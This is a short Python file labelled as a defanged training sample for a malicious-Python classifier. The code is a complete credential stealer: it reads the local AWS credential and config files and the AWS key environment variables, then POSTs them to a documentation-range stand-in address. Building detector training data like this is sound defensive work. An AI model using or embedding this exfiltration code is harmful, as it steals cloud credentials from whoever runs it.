# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
import json
import urllib.request

def grab():
    loot = {}
    for p in ("~/.aws/credentials", "~/.aws/config"):
        fp = os.path.expanduser(p)
        if os.path.exists(fp):
            with open(fp) as f:
                loot[p] = f.read()
    for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        if k in os.environ:
            loot[k] = os.environ[k]
    return loot

data = json.dumps(grab()).encode()
urllib.request.urlopen(urllib.request.Request("http://192.0.2.140/c", data=data, method="POST"))
